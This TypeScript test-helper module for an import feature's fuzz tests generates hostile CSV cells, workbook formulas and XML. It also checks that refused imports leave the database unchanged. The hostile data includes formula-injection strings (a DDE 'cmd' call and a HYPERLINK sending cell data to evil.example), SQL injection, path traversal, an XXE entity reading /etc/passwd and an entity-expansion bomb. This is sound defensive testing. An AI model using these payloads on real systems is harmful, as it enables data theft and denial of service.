// Shared by the fuzz-*.test.ts files: hostile strings and files, the database digest, and the checks every
// refused import must pass (a typed error, nothing written, the file named, row and column for a cell).
import { createHash } from 'node:crypto';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import JSZip from 'jszip';
import { expect } from 'vitest';
import type { Backend } from '../../electron/backend/app';
import type { Result } from '../../shared/result';

export { BOMBS, zipBomb } from './fuzz-zip';

/** Runs per property come from here so the whole suite can be scaled at once (AUDIT_DESK_FUZZ_SCALE=0.1 to smoke). */
export const runs = (n: number) => Math.max(5, Math.round(n * Number(process.env.AUDIT_DESK_FUZZ_SCALE ?? 1)));
/** Reproducible by default; print the seed fast-check reports to replay a failure. */
export const fuzzParams = (n: number) => ({ numRuns: runs(n), seed: Number(process.env.AUDIT_DESK_FUZZ_SEED ?? 20261122) });

/** Every table's row count and highest rowid: cheap enough to take around every refused commit. */
export function quickDigest(b: Backend): string {
  const tables = b.opened.sqlite
    .prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name")
    .pluck()
    .all() as string[];
  const sql = tables.map((t) => `SELECT '${t}' AS t, count(*) AS n, coalesce(max(rowid), 0) AS m FROM "${t}"`).join(' UNION ALL ');
  return (b.opened.sqlite.prepare(sql).all() as Array<{ t: string; n: number; m: number }>).map((r) => `${r.t}:${r.n}:${r.m}`).join(' ');
}

/** The tables whose count or last rowid differ between two quick digests, for a readable failure. */
export const changedTables = (before: string, after: string) => {
  const a = new Set(before.split(' '));
  return after.split(' ').filter((x) => !a.has(x)).join(' ') || 'none';
};

/** Every row of every table, hashed: taken before and after a whole property. */
export function fullDigest(b: Backend): string {
  const h = createHash('sha256');
  const tables = b.opened.sqlite
    .prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name")
    .pluck()
    .all() as string[];
  for (const t of tables) {
    h.update(t);
    for (const row of b.opened.sqlite.prepare(`SELECT * FROM "${t}" ORDER BY rowid`).raw().iterate()) h.update(JSON.stringify(row, (_k, v) => (Buffer.isBuffer(v) ? v.toString('base64') : v)));
  }
  return h.digest('hex');
}

const TYPED = new Set(['validation', 'not_found', 'conflict', 'frozen', 'import_invalid', 'file_locked']);

/**
 * A refused import must be a typed error (never 'internal', which is a crash reaching the dispatcher) whose
 * every detail names the file, and names a column wherever it names a row.
 */
export function expectCleanRefusal(r: Result<unknown>, fileName: string, what: string): void {
  if (r.ok) return;
  const context = `${what}: ${r.error.code}: ${r.error.message} ${JSON.stringify(r.error.details ?? []).slice(0, 500)}`;
  expect(TYPED.has(r.error.code), context).toBe(true);
  const details = r.error.details ?? [];
  // A refusal about the file must say which file; a pure request-shape refusal (validation) has no file.
  if (r.error.code === 'import_invalid') {
    expect(details.length, context).toBeGreaterThan(0);
    for (const d of details) {
      expect(d.file, context).toBe(fileName);
      if (d.row !== undefined) expect(d.field, context).toBeTruthy();
    }
  }
}

/** Row problems listed in a successful preview must carry the row and column too. */
export function expectLocatedProblems(problems: Array<{ file?: string; row?: number; field?: string; column?: string }>, fileName: string, what: string): void {
  for (const p of problems) {
    const context = `${what}: ${JSON.stringify(p)}`;
    if ('file' in p) expect(p.file, context).toBe(fileName);
    if (p.row !== undefined) expect(p.field ?? p.column, context).toBeTruthy();
  }
}

// ---- hostile text ----

const HOSTILE = [
  '=cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(A1)',
  '\u202Egnp.exe',
  '\u200B\u200C\u200D\uFEFF',
  'a\u0000b',
  '\uD800',
  '\uDFFFx',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'ﷺ'.repeat(50),
  'Z̷̢̛̤̫a̴l̸g̵o̶',
  '<script>alert(1)</script>',
  '"; DROP TABLE agencies; --',
  '../../../../etc/passwd',
  'C:\\Windows\\System32\\calc.exe',
  '\r\n\r\n',
  '\t',
  'NaN',
  '1e999',
  '-0',
  '0x41',
  'TRUE',
  '1900-02-29',
  '31/02/2026',
  '9999-99-99',
  '',
  ' ',
  '\u00a0',
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.integer({ min: 1_000, max: 40_000 }).map((n) => 'x'.repeat(n)) },
  { weight: 1, arbitrary: fc.double().map(String) },
);

/** Cells for a CSV: hostile text, quoted or not, sometimes with a broken quote. */
export const csvCell = hostileString.map((s) => (/[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s));

export function csvText(rows: string[][]): string {
  return rows.map((r) => r.join(',')).join('\r\n');
}

export const b64 = (bytes: Uint8Array | string) => Buffer.from(bytes).toString('base64');

// ---- hostile workbooks and zips ----

/** A workbook of the given rows; cells may be formulas or hyperlinks as Excel would save them. */
export async function workbook(rows: Array<Array<ExcelJS.CellValue>>, sheetName = 'Sheet1'): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet(sheetName);
  for (const r of rows) ws.addRow(r);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

/** Excel-like cell values: text, numbers, dates, booleans, formulas (with a cached result or none), links, errors. */
export const cellValue: fc.Arbitrary<ExcelJS.CellValue> = fc.oneof(
  { weight: 5, arbitrary: hostileString.map((s) => s.replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uD800-\uDFFF\uFFFE\uFFFF]/g, '?')) },
  { weight: 2, arbitrary: fc.double({ noNaN: false }) },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.date({ min: new Date('1899-12-31'), max: new Date('9999-12-31'), noInvalidDate: true }) },
  { weight: 1, arbitrary: fc.constant({ formula: 'cmd|\' /C calc\'!A0', result: '' } as ExcelJS.CellValue) },
  { weight: 1, arbitrary: fc.constant({ formula: 'HYPERLINK("http://evil.example","x")' } as ExcelJS.CellValue) },
  { weight: 1, arbitrary: fc.constant({ text: 'link', hyperlink: 'file:///C:/Windows/System32/calc.exe' } as ExcelJS.CellValue) },
  { weight: 1, arbitrary: fc.constant({ error: '#REF!' } as ExcelJS.CellValue) },
  { weight: 1, arbitrary: fc.constant(null) },
);

/** Byte-level damage to a real file: truncation, flipped bytes, spliced garbage. */
export const damage = (base: Buffer): fc.Arbitrary<Buffer> =>
  fc.oneof(
    fc.integer({ min: 0, max: base.length - 1 }).map((n) => base.subarray(0, n)),
    fc.array(fc.tuple(fc.nat(base.length - 1), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 20 }).map((flips) => {
      const copy = Buffer.from(base);
      for (const [at, v] of flips) copy[at] = v;
      return copy;
    }),
    fc.tuple(fc.nat(base.length), fc.uint8Array({ minLength: 1, maxLength: 200 })).map(([at, junk]) => Buffer.concat([base.subarray(0, at), Buffer.from(junk), base.subarray(at)])),
    fc.uint8Array({ maxLength: 500 }).map((junk) => Buffer.from(junk)),
  );

/** A real package with one entry replaced by hostile XML (unclosed tags, entities, deep nesting, huge text). */
export async function withEntry(base: Buffer, entry: string, content: string): Promise<Buffer> {
  const zip = await JSZip.loadAsync(base);
  zip.file(entry, content);
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}

export const hostileXml: fc.Arbitrary<string> = fc.oneof(
  fc.constant('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><x>&c;&c;&c;</x>'),
  fc.constant('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
  fc.constant('<a>'.repeat(5000)),
  fc.constant('<worksheet><sheetData><row r="1048577"><c r="XFE1048577" t="s"><v>99999999</v></c></row></sheetData></worksheet>'),
  fc.constant('<worksheet><sheetData><row r="-1"><c r="A-1" t="n"><v>abc</v></c></row></sheetData></worksheet>'),
  fc.string({ maxLength: 200 }),
  fc.string({ unit: 'binary', maxLength: 200 }),
);

/** Calls preview then commit; checks both; returns whether the commit was accepted. */
export async function previewAndCommit(
  b: Backend,
  preview: string,
  commit: string,
  input: Record<string, unknown>,
  fileName: string,
  checkPreview?: (r: Result<unknown>) => void,
): Promise<boolean> {
  const before = quickDigest(b);
  const p = await b.dispatch(preview, input);
  checkPreview?.(p);
  expectCleanRefusal(p, fileName, preview);
  expect(changedTables(before, quickDigest(b)), `${preview} wrote to the database`).toBe('none');
  const c = await b.dispatch(commit, input);
  expectCleanRefusal(c, fileName, commit);
  if (!c.ok) expect(changedTables(before, quickDigest(b)), `${commit} was refused but changed the database`).toBe('none');
  return c.ok;
}
